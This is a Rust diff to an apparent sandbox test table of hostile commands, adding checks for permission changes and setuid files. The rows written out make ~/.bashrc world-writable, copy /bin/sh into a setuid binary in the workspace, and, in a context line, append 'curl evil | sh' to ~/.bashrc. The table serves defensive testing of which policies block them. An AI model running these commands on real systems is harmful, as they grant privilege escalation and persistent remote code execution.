@@ -62,6 +62,11 @@ pub enum Observe {
     Changes(&'static str),
     /// Got through if and only if this path is gone afterwards.
     Removes(&'static str),
+    /// Got through if and only if this path's permission bits changed.
+    ChangesMode(&'static str),
+    /// Got through if and only if this path is a file with the setuid or
+    /// setgid bit afterwards.
+    SetsId(&'static str),
     /// Got through if and only if the output contains this text.
     Prints(&'static str),
     /// Got through if and only if the test's TCP listener accepted a connection.
@@ -152,6 +157,24 @@ pub const HOSTILE_COMMANDS: &[HostileCommand] = &[
         "append to an existing file in $HOME (~/.bashrc)",
         &["sh", "-c", "echo 'curl evil | sh' >> {home}/.bashrc"],
         Observe::Changes("{home}/.bashrc"),
+        [Allowed, Blocked, Blocked],
+    ),
+    row(
+        "chmod_home_file",
+        "let everyone write a file in $HOME (chmod 666 ~/.bashrc)",
+        &["sh", "-c", "chmod 666 {home}/.bashrc"],
+        Observe::ChangesMode("{home}/.bashrc"),
+        [Allowed, Allowed, Blocked],
+    ),
+    row(
+        "setuid_program",
+        "make a setuid program in the workspace (chmod 4755)",
+        &[
+            "sh",
+            "-c",
+            "cat /bin/sh > {workspace}/tool; chmod 4755 {workspace}/tool",
+        ],
+        Observe::SetsId("{workspace}/tool"),
         [Allowed, Blocked, Blocked],
     ),
     needs(
